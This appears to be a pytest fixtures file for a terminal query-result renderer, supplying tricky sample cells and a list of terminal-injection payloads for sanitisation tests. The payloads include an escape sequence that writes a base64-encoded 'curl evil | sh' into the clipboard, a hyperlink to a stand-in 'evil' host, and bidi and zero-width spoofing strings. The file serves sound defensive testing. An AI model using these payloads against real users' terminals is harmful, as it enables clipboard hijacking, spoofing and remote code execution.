"""One small result with everything that goes wrong in it, and the hostile corpus."""

from __future__ import annotations

import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass

import pytest

from athena_shell.core.model import Column, Row


@dataclass(frozen=True)
class Sample:
    columns: tuple[Column, ...]
    rows: tuple[Row, ...]


@pytest.fixture(scope="session")
def sample() -> Sample:
    """A result in which every cell is a trap."""
    return Sample(
        columns=(
            Column("id", "bigint"),
            Column("name", "varchar"),
            Column("price", "decimal", 10, 2),
            Column("ratio", "double"),
            Column("paid", "boolean"),
            Column("note", "varchar"),
            Column("doc", "json"),
            Column("tags", "array"),
            Column("名前", "varchar"),
        ),
        rows=(
            ("1", "plain", "1.10", "1.0E10", "true", "", '{"a": 1}', "[a, b]", "漢字"),
            ("-20", 'say "hi", ok', "0.00", "NaN", "false", None, "[1,\n 2]", "[]", "é"),
            ("300", "tab\there", "-1234567.80", "-Infinity", None, "a\nb", None, None, "e\u0301"),
            (None, None, None, None, None, None, None, None, None),
            ("9223372036854775807", "=1+1", "12345.00", "0.1", "true", "NULL", "nope", "[x]", "🙂"),
            ("5", "back\\slash|pipe", "0.01", "1e-7", "true", "None", '"s"', "[{a=1}]", "한국"),
            ("6", "<b>&amp;</b> _it_ 50% $x#", "6.00", "2.5", "false", "'", "true", "{}", "👍"),
            (
                "7",
                "\x1b[31mred\x1b[0m \u202eright",
                "7.00",
                "7.0",
                "true",
                "\x9b",
                "7",
                "[7]",
                "ｆ",
            ),
        ),
    )


def _category(code: int) -> str:
    return unicodedata.category(chr(code))


FORBIDDEN = frozenset(
    chr(code)
    for code in range(0x110000)
    if _category(code) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or (code & 0xFFFE) == 0xFFFE
) | {chr(code) for code in range(0xFDD0, 0xFDF0)}

PAYLOADS = (
    "\x1b]0;title\x07",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1bP$q q\x1b\\",
    "\x9b31m\x9d0;x\x9c",
    "user\u202ecod.exe",
    "admin\u200b",
    "line\rspoofed",
    "beep\x07\x08\x08\x08",
    "\u2066\u2069\u061c",
    "nul\x00byte",
    "low\udc80surrogate \ud800",
    "-[ RECORD 2 ]\n| fake | row |",
)


@pytest.fixture(scope="session")
def forbidden() -> frozenset[str]:
    """Every code point that must not reach a terminal, by Unicode's own categories."""
    return FORBIDDEN


@pytest.fixture(scope="session")
def payloads() -> Sequence[str]:
    """Texts that attack a terminal or its reader."""
    return PAYLOADS
